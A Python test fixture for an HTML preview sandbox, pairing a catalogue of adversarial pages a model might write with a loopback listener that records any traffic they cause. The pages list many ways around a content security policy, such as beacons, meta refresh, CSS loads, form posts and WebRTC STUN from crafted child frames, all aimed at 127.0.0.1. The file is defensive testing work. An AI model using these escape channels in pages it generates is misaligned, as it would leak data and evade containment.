"""Adversarial pages for the HTML preview and a loopback listener that records what reaches it.

Each :class:`Attack` is a page a model could write. Its text names the listener through
``{T}`` (``http://127.0.0.1:PORT``), ``{HOSTPORT}`` and ``{UDP}`` (the UDP port a STUN request
would go to). A page pushes the promises of its asynchronous attempts into ``self.pending``; the
:data:`EPILOGUE` marks the page done once it has loaded and those attempts have settled.
"""

from __future__ import annotations

import contextlib
import json
import socket
import threading
import urllib.parse
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Literal

EPILOGUE = (
    "<script>addEventListener('load', () => Promise.allSettled(self.pending || [])"
    ".then(() => { document.documentElement.dataset.done = '1'; }));</script>"
)
# One STUN attempt against the listener's UDP port in the window ``W``; resolves on the first ICE
# candidate (gathering has started and the request has been sent).
_RTC = (
    "const rtc = (W) => new Promise((resolve, reject) => {"
    " const pc = new W.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:{UDP}'}]});"
    " pc.createDataChannel('x'); pc.onicecandidate = () => resolve();"
    " pc.createOffer().then((o) => pc.setLocalDescription(o)).catch(reject); });"
)
# A child document whose script opens a STUN attempt. Pages name it as an attribute value
# ({CHILD_ATTR}), a JavaScript string ({CHILD_JS}) or a URL-encoded data: body ({CHILD_URL}).
_RTC_CHILD = "<script>" + _RTC + " rtc(window);</script>"


@dataclass(frozen=True)
class Attack:
    """A page; ``reaches`` is what it sends unprotected (None: nothing, even then)."""

    name: str
    page: str
    reaches: Literal["tcp", "udp"] | None = "tcp"
    navigates: bool = False  # sealed, the page's own frame ends on the browser's error page

    def render(self, tcp_port: int, udp_port: int) -> str:
        child = _RTC_CHILD.replace("{UDP}", str(udp_port))
        text = (
            self.page.replace("{T}", f"http://127.0.0.1:{tcp_port}")
            .replace("{HOSTPORT}", f"127.0.0.1:{tcp_port}")
            .replace("{RTC}", _RTC)
            .replace("{UDP}", str(udp_port))
            .replace("{CHILD_ATTR}", child.replace("&", "&amp;").replace('"', "&quot;"))
            .replace("{CHILD_JS}", json.dumps(child).replace("</", "<\\/"))
            .replace("{CHILD_URL}", urllib.parse.quote(child))
        )
        return text + EPILOGUE


ATTACKS: tuple[Attack, ...] = (
    # The policy used to be put after the first "<head" in the text.
    Attack(
        "csp_in_comment",
        "<!-- <head> --><!DOCTYPE html><html><head><title>x</title>"
        "</head><body><img src='{T}/comment.png'></body></html>",
    ),
    Attack(
        "head_in_attribute",
        "<!DOCTYPE html><html data-x='<head>'><head>"
        "<link rel=stylesheet href='{T}/attr.css'></head><body></body></html>",
    ),
    Attack(
        "script_before_head",
        "<script>(self.pending ||= []).push(fetch('{T}/early'))"
        "</script><!DOCTYPE html><html><head></head><body></body></html>",
    ),
    # Navigation of the page's own frame.
    Attack(
        "meta_refresh_http",
        "<!DOCTYPE html><html><head><meta http-equiv=refresh "
        "content='0;url={T}/refresh'></head><body>x</body></html>",
        navigates=True,
    ),
    Attack(
        "meta_refresh_in_body",
        "<!DOCTYPE html><body>x<meta http-equiv=refresh content='0;url={T}/refresh2'></body>",
        navigates=True,
    ),
    Attack(
        "meta_refresh_by_script",
        "<!DOCTYPE html><body>x<script>const m = "
        "document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = "
        "'0;url={T}/refresh3'; document.head.append(m);</script></body>",
        navigates=True,
    ),
    Attack(
        "meta_refresh_javascript",
        "<!DOCTYPE html><head><meta http-equiv=refresh "
        "content=\"0;url=javascript:fetch('{T}/js')\"></head><body>x</body>",
        reaches=None,
    ),
    Attack(
        "location_assign",
        "<!DOCTYPE html><body><script>location = '{T}/location'</script></body>",
        navigates=True,
    ),
    Attack(
        "link_clicked_by_script",
        "<!DOCTYPE html><a id=a href='{T}/click'>x</a><script>"
        "document.getElementById('a').click()</script>",
        navigates=True,
    ),
    # Links and preloads.
    Attack("link_stylesheet", "<!DOCTYPE html><head><link rel=stylesheet href='{T}/s.css'></head>"),
    Attack(
        "link_preload", "<!DOCTYPE html><head><link rel=preload as=image href='{T}/p.png'></head>"
    ),
    Attack("link_prefetch", "<!DOCTYPE html><head><link rel=prefetch href='{T}/prefetch'></head>"),
    Attack(
        "link_preconnect",
        "<!DOCTYPE html><head><link rel=preconnect href='{T}'>"
        "<link rel=preconnect href='{T}' crossorigin></head>",
        reaches=None,
    ),
    Attack(
        "link_dns_prefetch",
        "<!DOCTYPE html><head><link rel=dns-prefetch href='//{HOSTPORT}'></head>",
        reaches=None,
    ),
    Attack("link_icon", "<!DOCTYPE html><head><link rel=icon href='{T}/favicon.ico'></head>"),
    Attack(
        "link_modulepreload", "<!DOCTYPE html><head><link rel=modulepreload href='{T}/m.js'></head>"
    ),
    Attack(
        "speculation_rules",
        "<!DOCTYPE html><script type=speculationrules>"
        '{"prefetch": [{"source": "list", "urls": ["{T}/speculation"]}]}'
        "</script>",
        reaches=None,
    ),
    # CSS.
    Attack("css_import", "<!DOCTYPE html><style>@import url('{T}/i.css');</style>"),
    Attack(
        "css_url",
        "<!DOCTYPE html><style>body { background: url('{T}/bg.png') }</style><body>x</body>",
    ),
    Attack(
        "css_font_face",
        "<!DOCTYPE html><style>@font-face { font-family: f; src: "
        "url('{T}/f.woff') } body { font-family: f }</style><body>x</body>",
    ),
    # Media.
    Attack("img_src", "<!DOCTYPE html><img src='{T}/i.png'>"),
    Attack("img_srcset", "<!DOCTYPE html><img srcset='{T}/s.png 1x'>"),
    Attack("video_poster", "<!DOCTYPE html><video poster='{T}/poster.png'></video>"),
    Attack("audio_src", "<!DOCTYPE html><audio src='{T}/a.mp3' autoplay></audio>"),
    Attack(
        "svg_image", "<!DOCTYPE html><svg><image href='{T}/svg.png' width=9 height=9></image></svg>"
    ),
    Attack("new_image", "<!DOCTYPE html><script>new Image().src = '{T}/new.png'</script>"),
    # Script APIs.
    # "#x" resolves against the app page's address (a srcdoc page has none of its own), so the
    # click is a navigation too.
    Attack(
        "a_ping",
        "<!DOCTYPE html><a id=a href='#x' ping='{T}/ping'>x</a><script>"
        "document.getElementById('a').click()</script>",
        navigates=True,
    ),
    Attack(
        "fetch", "<!DOCTYPE html><script>(self.pending ||= []).push(fetch('{T}/fetch'))</script>"
    ),
    Attack(
        "xhr",
        "<!DOCTYPE html><script>const x = new XMLHttpRequest(); "
        "x.open('GET', '{T}/xhr'); x.send();</script>",
    ),
    Attack("websocket", "<!DOCTYPE html><script>new WebSocket('ws://{HOSTPORT}/ws')</script>"),
    Attack("eventsource", "<!DOCTYPE html><script>new EventSource('{T}/events')</script>"),
    Attack(
        "send_beacon", "<!DOCTYPE html><script>navigator.sendBeacon('{T}/beacon', 'x')</script>"
    ),
    Attack("script_src", "<!DOCTYPE html><script src='{T}/s.js'></script>"),
    Attack(
        "dynamic_import",
        "<!DOCTYPE html><script>(self.pending ||= []).push(import('{T}/mod.js'))</script>",
    ),
    Attack(
        "blob_worker_fetch",
        "<!DOCTYPE html><script>const b = new Blob([\"fetch('{T}/"
        "worker')\"]); new Worker(URL.createObjectURL(b));</script>",
    ),
    # Other documents.
    Attack("iframe_src", "<!DOCTYPE html><iframe src='{T}/frame'></iframe>"),
    Attack("object_data", "<!DOCTYPE html><object data='{T}/object'></object>"),
    Attack("embed_src", "<!DOCTYPE html><embed src='{T}/embed'>"),
    Attack("window_open", "<!DOCTYPE html><script>window.open('{T}/open')</script>"),
    Attack(
        "form_submit",
        "<!DOCTYPE html><form id=f action='{T}/form' method=post>"
        "<input name=a value=b></form><script>document.getElementById('f').submit()"
        "</script>",
    ),
    Attack(
        "base_href",
        "<!DOCTYPE html><head><base href='{T}/'></head><body><img src='relative.png'></body>",
    ),
    # WebRTC, which CSP does not govern, from the page and from every kind of child frame.
    Attack(
        "webrtc_stun",
        "<!DOCTYPE html><script>{RTC} (self.pending ||= []).push(rtc(window));</script>",
        reaches="udp",
    ),
    Attack(
        "webrtc_in_blank_child",
        "<!DOCTYPE html><body><script>{RTC} const f = "
        "document.createElement('iframe'); document.body.append(f); (self.pending ||= [])"
        ".push(rtc(f.contentWindow));</script></body>",
        reaches="udp",
    ),
    Attack(
        "webrtc_in_markup_srcdoc",
        '<!DOCTYPE html><iframe srcdoc="{CHILD_ATTR}"></iframe>',
        reaches="udp",
    ),
    Attack(
        "webrtc_in_script_srcdoc",
        "<!DOCTYPE html><body><script>const f = "
        "document.createElement('iframe'); f['src' + 'doc'] = {CHILD_JS}; "
        "document.body.append(f);</script></body>",
        reaches="udp",
    ),
    Attack(
        "webrtc_in_written_split_srcdoc",
        "<!DOCTYPE html><body><script>document.write("
        "'<iframe sr')</script>cdoc=\"{CHILD_ATTR}\"></iframe></body>",
        reaches="udp",
    ),
    Attack(
        "webrtc_in_javascript_url_child",
        "<!DOCTYPE html><body><script>const f = "
        "document.createElement('iframe'); f.src = 'javascript:' + JSON.stringify("
        "{CHILD_JS}); document.body.append(f);</script></body>",
        reaches="udp",
    ),
    Attack(
        "webrtc_in_data_url_child",
        '<!DOCTYPE html><iframe src="data:text/html,{CHILD_URL}"></iframe>',
        reaches="udp",
    ),
    Attack(
        "webrtc_in_blob_url_child",
        "<!DOCTYPE html><body><script>const f = "
        "document.createElement('iframe'); f.src = URL.createObjectURL(new Blob("
        "[{CHILD_JS}], {type: 'text/html'})); document.body.append(f);</script></body>",
        reaches="udp",
    ),
)
ATTACKS_BY_NAME = {a.name: a for a in ATTACKS}


@dataclass
class Hit:
    """One TCP connection (with every byte it carried) or one UDP datagram."""

    kind: Literal["tcp", "udp"]
    data: bytearray = field(default_factory=bytearray)


class Listener:
    """A TCP and a UDP socket on 127.0.0.1 that record every connection and datagram.

    Connections are accepted in a thread; each is read to its end in its own thread, and an HTTP
    request gets an empty 404 so the browser does not wait. :meth:`wait` blocks on a condition
    that every new byte notifies, so tests wait for events instead of sleeping.
    """

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.tcp_port = int(self.tcp.getsockname()[1])
        self.udp_port = int(self.udp.getsockname()[1])
        self.hits: list[Hit] = []
        self._changed = threading.Condition()
        self._threads = [
            threading.Thread(target=self._accept, daemon=True),
            threading.Thread(target=self._receive, daemon=True),
        ]
        for thread in self._threads:
            thread.start()

    def _record(self, hit: Hit) -> None:
        with self._changed:
            self.hits.append(hit)
            self._changed.notify_all()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.tcp.accept()
            except OSError:
                return
            hit = Hit("tcp")
            self._record(hit)
            threading.Thread(target=self._read, args=(conn, hit), daemon=True).start()

    def _read(self, conn: socket.socket, hit: Hit) -> None:
        with conn:
            answered = False
            while True:
                try:
                    chunk = conn.recv(65536)
                except OSError:
                    return
                if not chunk:
                    return
                with self._changed:
                    hit.data.extend(chunk)
                    self._changed.notify_all()
                if not answered and b"\r\n\r\n" in hit.data:
                    answered = True
                    try:
                        conn.sendall(
                            b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n"
                            b"Connection: close\r\n\r\n"
                        )
                    except OSError:
                        return

    def _receive(self) -> None:
        while True:
            try:
                data, _ = self.udp.recvfrom(65536)
            except OSError:
                return
            self._record(Hit("udp", bytearray(data)))

    def wait(self, predicate: Callable[[list[Hit]], bool], timeout: float) -> bool:
        """Wait until ``predicate(hits)`` holds; False if ``timeout`` seconds passed first."""
        with self._changed:
            return self._changed.wait_for(lambda: predicate(self.hits), timeout)

    def snapshot(self) -> list[tuple[str, bytes]]:
        with self._changed:
            return [(h.kind, bytes(h.data)) for h in self.hits]

    def close(self) -> None:
        for sock in (self.tcp, self.udp):
            with contextlib.suppress(OSError):
                sock.shutdown(socket.SHUT_RDWR)
            sock.close()
